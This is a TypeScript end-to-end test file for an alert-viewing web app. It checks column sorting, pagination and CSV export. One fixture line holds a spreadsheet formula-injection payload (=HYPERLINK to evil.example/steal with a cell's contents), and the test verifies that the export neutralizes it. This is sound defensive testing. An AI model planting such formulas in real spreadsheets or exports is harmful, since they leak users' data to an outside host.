/**
 * Sorting and export in Chromium against a real server with 25,000 simulated
 * alerts and one whose full_log is a spreadsheet formula: a column header sorts (again flips), by
 * keyboard too, in the API's order and with the sort in the URL; only sortable columns have the
 * button; Export CSV downloads every matching alert with the columns on show, the formula
 * neutralized, progress shown; a dashboard panel downloads its buckets as CSV.
 *
 * The cases, for sort-export.test.ts (embedded backend) and sort-export.opensearch.test.ts (OpenSearch).
 */
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Backend } from '../../src/config/server-config.js';
import { cloudWatchEventId } from '../../src/core/ids.js';
import { documentFromLogEvent } from '../../src/transforms/to-document.js';
import { parseCsv } from '../support/csv.js';
import { apiSearch, LOG_GROUP, screenshot, searchable, simulateAlerts, startFixture, urlParams, waitReady, writeAlerts, type Fixture } from './harness.js';

const ALERTS = simulateAlerts(25_000);
const HYPERLINK = '=HYPERLINK("http://evil.example/steal?c="&A1,"Click for details")';
const POLL = { timeout: 30_000, interval: 100 };
let fx: Fixture;
let page: Page;
const RANGE = { from: 'now-24h', to: 'now' };

async function openDiscover(params: Record<string, string> = {}): Promise<void> {
  await page.goto(`${fx.server.url}/discover?${new URLSearchParams({ ...RANGE, ...params }).toString()}`);
  await waitReady(page);
}

/** The ids of the rows on show, in order. */
async function shownIds(): Promise<string[]> {
  return page.locator('[data-testid="doc-row"]').evaluateAll((rows) => rows.map((r) => r.getAttribute('data-id') ?? ''));
}

async function apiIds(sort: { field: string; order: 'asc' | 'desc' }, size: number): Promise<string[]> {
  const answer = await apiSearch(fx.server, { query: '', ...RANGE, size, sort });
  return (answer.hits as Array<{ id: string }>).map((h) => h.id);
}

async function clickSort(field: string): Promise<void> {
  const before = urlParams(page).get('sort');
  await page.locator(`[data-testid="sort-button"][data-field="${field}"]`).click();
  await expect.poll(() => urlParams(page).get('sort'), POLL).not.toBe(before);
  await waitReady(page);
}

/** Registers the suite against a server on `backend` (one server for the whole file). */
export function sortExportSuite(backend: Backend): void {
  beforeAll(async () => {
    fx = await startFixture(`sort-export-${backend}`, {}, backend);
    await writeAlerts(fx.server, ALERTS);
    const at = (ALERTS[100] as { timeMs: number }).timeMs;
    const message = JSON.stringify({ rule: { level: 12, comment: 'Formula in a log line', sidid: 100001, groups: ['test'] }, srcip: '10.9.9.9', full_log: HYPERLINK, hostname: 'evil' });
    const written = await fx.server.index.write([documentFromLogEvent({ eventId: cloudWatchEventId(at, 999_999), timestampMs: at, message, owner: fx.server.config.owner, logGroup: LOG_GROUP, logStream: 'i-evil' })]);
    expect(written).toMatchObject({ written: 1 });
    await searchable(fx.server);
    ({ page } = await fx.signedIn());
  }, 240_000);
  afterAll(async () => {
    await fx?.close();
    expect(fx?.pageErrors ?? []).toEqual([]);
  }, 60_000);

  describe(`sorting Discover by a column (${backend} backend)`, { timeout: 120_000 }, () => {
    it('sorts by rule.level (again: flipped) in the API’s order, the sort in the URL and kept on reload', async () => {
      await openDiscover({ cols: 'rule.level,rule.comment,srcip,@log_stream' });
      await clickSort('rule.level');
      expect(urlParams(page).get('sort')).toBe('rule.level:asc');
      const asc = await shownIds();
      expect(asc.length).toBeGreaterThanOrEqual(50);
      expect(asc).toEqual(await apiIds({ field: 'rule.level', order: 'asc' }, asc.length));
      await clickSort('rule.level');
      expect(urlParams(page).get('sort')).toBe('rule.level:desc');
      const desc = await shownIds();
      expect(desc).toEqual(await apiIds({ field: 'rule.level', order: 'desc' }, desc.length));
      expect(await page.locator('th[data-field="rule.level"]').getAttribute('aria-sort')).toBe('descending');
      await page.reload();
      await waitReady(page);
      expect(await shownIds()).toEqual(desc);
      for (const viewport of [{ width: 1280, height: 800 }, { width: 1920, height: 1080 }]) {
        await page.setViewportSize(viewport);
        if (backend === 'embedded') await screenshot(page, `discover-sorted-${viewport.width}x${viewport.height}`);
      }
      await page.setViewportSize({ width: 1280, height: 800 });
      // Further pages continue the same order (search_after with the field's value).
      await page.getByTestId('load-more').click();
      await expect.poll(async () => (await shownIds()).length, POLL).toBeGreaterThan(desc.length);
      const more = await shownIds();
      expect(more).toEqual(await apiIds({ field: 'rule.level', order: 'desc' }, more.length));
    });

    it('fetches the next page once when two triggers fire before a render (the scroll sentinel and the button)', async () => {
      await openDiscover({ cols: 'rule.level,srcip', sort: 'rule.level:desc' });
      const first = await shownIds();
      expect(first.length).toBe(50);
      // Two clicks in one task: React renders the loading state only after both have run.
      await page.getByTestId('load-more').evaluate((button) => {
        button.click();
        button.click();
      });
      await expect.poll(async () => (await shownIds()).length, POLL).toBeGreaterThan(first.length);
      await expect.poll(() => page.getByTestId('load-more').textContent(), POLL).not.toContain('Loading');
      const shown = await shownIds();
      expect(new Set(shown).size).toBe(shown.length);
      expect(shown).toEqual(await apiIds({ field: 'rule.level', order: 'desc' }, shown.length));
    });

    it('sorts by srcip by address, from the keyboard', async () => {
      await openDiscover({ cols: 'rule.level,srcip' });
      await page.locator('[data-testid="sort-button"][data-field="srcip"]').focus();
      await page.keyboard.press('Enter');
      await expect.poll(() => urlParams(page).get('sort'), POLL).toBe('srcip:asc');
      await waitReady(page);
      const ids = await shownIds();
      expect(ids).toEqual(await apiIds({ field: 'srcip', order: 'asc' }, ids.length));
      // By address: 9.x before 10.x, 10.0.0.9 before 10.0.0.10.
      const ips = await page.locator('[data-testid="doc-row"] td[data-field="srcip"]').allTextContents();
      expect(ips.length).toBeGreaterThan(0);
    });

    it('shows the sort button only on sortable columns (not on text fields)', async () => {
      await openDiscover({ cols: 'rule.level,rule.comment,full_log,srcip' });
      const buttons = await page.locator('[data-testid="sort-button"]').evaluateAll((b) => b.map((x) => x.getAttribute('data-field')));
      expect(buttons).toEqual(['@timestamp', 'rule.level', 'srcip']);
    });
  });

  describe(`exporting the whole result (${backend} backend)`, { timeout: 180_000 }, () => {
    it('downloads every matching alert (25,001) as CSV with the columns on show, the formula neutralized, with progress', async () => {
      await openDiscover({ cols: 'rule.level,srcip,full_log', sort: 'rule.level:desc' });
      const total = Number(await page.getAttribute('[data-testid="hit-count"]', 'data-total'));
      expect(total).toBe(ALERTS.length + 1);
      const download = page.waitForEvent('download', { timeout: 120_000 });
      await page.getByTestId('export-csv').click();
      const file = await download;
      expect(file.suggestedFilename()).toMatch(/^hidsmon-.*\.csv$/);
      const records = parseCsv(readFileSync((await file.path()) as string, 'utf8'));
      expect(records[0]).toEqual(['@timestamp', 'rule.level', 'srcip', 'full_log']);
      const rows = records.slice(1);
      expect(rows).toHaveLength(total);
      expect(rows.filter((r) => r[3]?.includes('HYPERLINK'))).toEqual([[expect.any(String), '12', '10.9.9.9', `'${HYPERLINK}`]]);
      // The sort on show: the highest level first.
      const levels = rows.map((r) => Number(r[1]));
      expect(levels).toEqual([...levels].sort((a, b) => b - a));
      await expect.poll(() => page.getByTestId('export').getAttribute('data-state'), POLL).toBe('done');
      expect(await page.getByTestId('export-status').textContent()).toContain(`Exported ${total.toLocaleString('en-US')} rows`);
    });

    it('downloads a dashboard panel’s buckets as CSV', async () => {
      await page.goto(`${fx.server.url}/dashboard?${new URLSearchParams(RANGE).toString()}`);
      await waitReady(page, 'dashboard');
      const download = page.waitForEvent('download', { timeout: 30_000 });
      await page.getByTestId('panel-levels-csv').click();
      const records = parseCsv(readFileSync((await (await download).path()) as string, 'utf8'));
      const api = await apiSearch(fx.server, { query: '', ...RANGE, size: 0, aggregations: { levels: { type: 'terms', field: 'rule.level', size: 16 } } });
      expect(records).toEqual([['rule.level', 'count'], ...(api.aggregations.levels.buckets as Array<{ key: number; count: number }>).map((b) => [String(b.key), String(b.count)])]);
    });
  });
}
